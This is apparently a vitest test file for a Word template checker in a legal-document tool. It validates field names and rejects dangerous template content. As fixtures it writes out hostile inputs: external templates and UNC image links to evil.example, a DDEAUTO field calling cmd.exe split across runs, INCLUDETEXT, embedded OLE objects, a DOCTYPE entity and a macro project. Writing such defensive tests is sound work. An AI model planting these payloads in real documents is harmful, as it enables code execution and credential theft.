import { describe, expect, it } from "vitest";
import { openArchive } from "../archive";
import { archiveOf, packEntry } from "../archive-writer";
import { type Block, body, each, plain, table, templateBytes, when } from "./blocks";
import { checkTemplate } from "./check-template.server";
import { documentFields, type TemplateKind } from "./fields";
import { builtInTemplate } from "./render.server";

const KIND = "undisputedFacts";
const codes = async (...blocks: Block[]) =>
  (await checkTemplate(KIND, await templateBytes("试", blocks)))
    .filter((one) => one.code !== "missingField")
    .map((one) => `${one.code} ${one.name}`);

/** The built-in template with one part changed or added. */
async function turned(name: string, change: (text: string) => string): Promise<Buffer> {
  const entries = openArchive(await builtInTemplate(KIND)).filter((entry) => !entry.name.endsWith("/"));
  const kept = entries.filter((entry) => entry.name !== name).map((entry) => entry.packed);
  const text =
    entries
      .find((entry) => entry.name === name)
      ?.read()
      .toString("utf8") ?? "";
  return archiveOf([...kept, packEntry(name, Buffer.from(change(text)))]);
}
const findings = async (name: string, change: (text: string) => string) =>
  (await checkTemplate(KIND, await turned(name, change))).map((one) => one.code);
const inBody = (more: string) => (text: string) => text.replace("<w:body>", `<w:body>${more}`);
const field = (...words: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${words
    .map((word) => `<w:r><w:instrText xml:space="preserve">${word}</w:instrText></w:r>`)
    .join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

it("every built-in template passes its own check with nothing missing", async () => {
  for (const kind of Object.keys(documentFields) as TemplateKind[])
    expect(await checkTemplate(kind, await builtInTemplate(kind)), kind).toEqual([]);
});

describe("names", () => {
  it.each<[string, Block[], string[]]>([
    ["an unknown field", [body("{caseNumber}")], ["unknownField caseNumber"]],
    ["a known one", [body("{caseNo}{courtName}")], []],
    ["a list's field outside of its list", [body("{fact}")], ["outsideList fact"]],
    ["a list's field inside", [each("facts", body("{fact}{caseNo}"))], []],
    ["a list as a single field", [body("{facts}")], ["unknownField facts"]],
    ["a table's row", [table("facts", ["一", "{no}", 50], ["二", "{fact}", 50])], []],
    ["a condition", [when("caseNo", body("{caseNo}")), when("facts", body("有"))], []],
    ["a condition on what is not there", [when("caseNumber", body("无"))], ["unknownField hasCaseNumber"]],
    ["a loop that never ends", [plain("{#facts}"), body("{fact}")], ["unclosed facts"]],
    ["an end without a beginning", [plain("{/facts}")], ["unopened facts"]],
    [
      "loops that cross",
      [body("{#facts}{#parties}{/facts}{/parties}")],
      ["unclosed parties", "unclosed facts"],
    ],
    [
      "what objects have by themselves",
      [body("{constructor}{__proto__}")],
      ["unknownField constructor", "unknownField __proto__"],
    ],
  ])("%s", async (_, blocks, expected) => {
    expect(await codes(...blocks)).toEqual(expected);
  });

  it("a brace without a partner is named by its paragraph", async () => {
    expect(await codes(body("{caseNo"))).toEqual(["braces {caseNo"]);
    expect(await codes(body("caseNo}"), body("{caseNo}"))).toEqual(["braces caseNo}"]);
    expect(await codes(body("{caseNo{cause}}"))).toEqual(["unknownField caseNo{cause"]);
  });

  it("fields that are nowhere are listed last", async () => {
    const found = await checkTemplate(KIND, await templateBytes("试", [body("{caseNo}{wrong}")]));
    expect(found[0]).toEqual({ code: "unknownField", name: "wrong" });
    expect(found.slice(1).every((one) => one.code === "missingField")).toBe(true);
    expect(found.map((one) => one.name)).toContain("facts");
  });
});

describe("what a template must not hold", () => {
  it.each<[string, string, (text: string) => string, string]>([
    [
      "an outside template",
      "word/_rels/settings.xml.rels",
      () =>
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="t" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      "external",
    ],
    [
      "an outside picture",
      "word/_rels/document.xml.rels",
      (text) =>
        text.replace(
          "</Relationships>",
          "<Relationship Id=\"x\" Type=\"t\" Target='\\\\evil.example\\a.png' TargetMode='External'/></Relationships>",
        ),
      "external",
    ],
    ["an embedded file", "word/embeddings/oleObject1.bin", () => "x", "embedded"],
    ["a foreign chunk", "word/document.xml", inBody('<w:altChunk r:id="rId1"/>'), "embedded"],
    ["a control", "word/document.xml", inBody("<w:p><w:r><w:object/></w:r></w:p>"), "embedded"],
    [
      "a document type",
      "word/styles.xml",
      (text) => text.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>'),
      "markup",
    ],
    ["a field that fetches", "word/document.xml", inBody(field(" INCLUDETEXT ", '"c:\\\\a"')), "fieldCode"],
    ["a field cut into runs", "word/document.xml", inBody(field(" DD", "EAUTO c:\\\\cmd.exe")), "fieldCode"],
    [
      "a field in short form",
      "word/document.xml",
      inBody('<w:p><w:fldSimple w:instr=" DDE a"/></w:p>'),
      "fieldCode",
    ],
  ])("%s", async (_, name, change, expected) => {
    expect(await findings(name, change)).toContain(expected);
  });

  it("page numbers are no such field", async () => {
    expect(await findings("word/document.xml", inBody(field(" PAGE ", "\\* MERGEFORMAT ")))).toEqual([]);
  });

  it("macros, and what is no Word document", async () => {
    const macros = await turned("word/vbaProject.bin", () => "x");
    expect(await checkTemplate(KIND, macros)).toEqual([{ code: "macros", name: "" }]);
    expect(await checkTemplate(KIND, Buffer.from("案号,案由\n"))).toEqual([{ code: "notWord", name: "" }]);
  });
});
